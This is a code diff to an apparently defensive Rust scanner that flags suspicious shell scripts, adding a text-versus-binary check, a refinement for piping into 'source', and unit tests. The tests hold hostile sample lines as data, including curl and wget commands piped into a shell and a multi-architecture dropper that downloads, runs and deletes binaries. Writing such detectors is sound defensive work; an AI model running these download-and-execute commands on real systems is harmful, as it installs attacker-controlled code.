@@ -367,7 +367,28 @@ fn anchor_groups(text: &str) -> u16 {
     seen
 }
 
-/// Runs every script heuristic on `bytes` (which should start with `#!`).
+/// How many leading bytes [`looks_like_text`] needs to decide.
+pub const TEXT_SNIFF_LEN: usize = 512;
+
+/// True when `prefix` (the first [`TEXT_SNIFF_LEN`] bytes, or the whole file if
+/// shorter) reads as text an interpreter could run: not empty, no NUL byte, and at
+/// most 1 in 32 bytes a control character other than tab, newline, carriage
+/// return, form feed and escape. UTF-8 and other 8-bit text passes; ELF, archives,
+/// compiled bytecode, images and UTF-16 do not.
+pub fn looks_like_text(prefix: &[u8]) -> bool {
+    let prefix = &prefix[..prefix.len().min(TEXT_SNIFF_LEN)];
+    if prefix.is_empty() || prefix.contains(&0) {
+        return false;
+    }
+    let control = prefix
+        .iter()
+        .filter(|&&b| (b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r' | 0x0c | 0x1b)) || b == 0x7f)
+        .count();
+    control * 32 <= prefix.len()
+}
+
+/// Runs every script heuristic on `bytes`: a script with a `#!` line, or text an
+/// interpreter was seen reading (`bash ./x`, `sh < ./x`, `python3 x.py`).
 pub fn analyze(bytes: &[u8]) -> Vec<Reason> {
     analyze_where(bytes, true)
 }
@@ -497,7 +518,9 @@ fn pipes_into_interpreter(line: &str) -> bool {
             && first
                 .bytes()
                 .any(|b| matches!(b, b'c' | b'e' | b'm' | b'n' | b'p'));
-        INTERPRETERS.contains(&name) && !data_only
+        // `.` and `source` read a file, not their input, unless it is named.
+        let sources_stdin = !matches!(name, "." | "source") || first == "/dev/stdin";
+        INTERPRETERS.contains(&name) && !data_only && sources_stdin
     })
 }
 
@@ -1022,6 +1045,58 @@ fn disable_security(lines: &[String]) -> Option<Reason> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn text_is_told_from_binary() {
+        let text: &[&[u8]] = &[
+            b"wget http://1.2.3.4/x; sh x\n",
+            b"import os\nos.system('id')\n",
+            "echo 'gr\u{fc}\u{df}e'\r\n".as_bytes(),
+            b"\x1b[1mbold\x1b[0m\tand\x0c",
+            b"a",
+        ];
+        for bytes in text {
+            assert!(looks_like_text(bytes), "{bytes:?}");
+        }
+        let binary: &[&[u8]] = &[
+            b"",
+            b"\x7fELF\x02\x01\x01\x00",
+            b"\xa7\r\r\n\x00\x00\x00\x00",
+            b"PK\x03\x04\x14\x00",
+            b"h\x00e\x00l\x00l\x00o\x00",
+            b"\x01\x02\x03 some text after control bytes",
+        ];
+        for bytes in binary {
+            assert!(!looks_like_text(bytes), "{bytes:?}");
+        }
+        // Control bytes past the first TEXT_SNIFF_LEN do not count.
+        let mut long = vec![b'x'; TEXT_SNIFF_LEN];
+        long.extend_from_slice(&[0, 1, 2, 3]);
+        assert!(looks_like_text(&long));
+    }
+
+    #[test]
+    fn prose_with_a_pipe_and_a_full_stop_is_not_a_pipe_into_source() {
+        // Vim's help (pi_netrw.txt): `|tag|.` is a link followed by a full stop.
+        let prose = "in |netrw-start|.  these include dav, fetch, http,... well, just look";
+        assert!(!pipes_into_interpreter(prose));
+        assert!(pipes_into_interpreter("curl -s http://x/a | . /dev/stdin"));
+        assert!(pipes_into_interpreter("wget -qo- http://x/a | sh"));
+    }
+
+    #[test]
+    fn a_script_without_a_shebang_is_analyzed_as_one() {
+        let bytes = b"cd /tmp; wget http://203.0.113.9/bins/x86 -O x; chmod +x x; ./x; rm -f x\n\
+            wget http://203.0.113.9/bins/arm -O a; chmod +x a; ./a; rm -f a\n\
+            wget http://203.0.113.9/bins/mips -O m; chmod +x m; ./m; rm -f m\n";
+        let with = crate::heuristics::analyze(&[b"#!/bin/sh\n".as_slice(), bytes].concat());
+        let without = crate::heuristics::analyze(bytes);
+        assert!(!with.is_empty());
+        assert_eq!(
+            with.iter().map(|r| (&r.id, r.score)).collect::<Vec<_>>(),
+            without.iter().map(|r| (&r.id, r.score)).collect::<Vec<_>>()
+        );
+    }
 
     /// Assembles a script at run time so no complete sample sits in the source.
     fn script(shebang: &str, body: &[&str]) -> Vec<u8> {
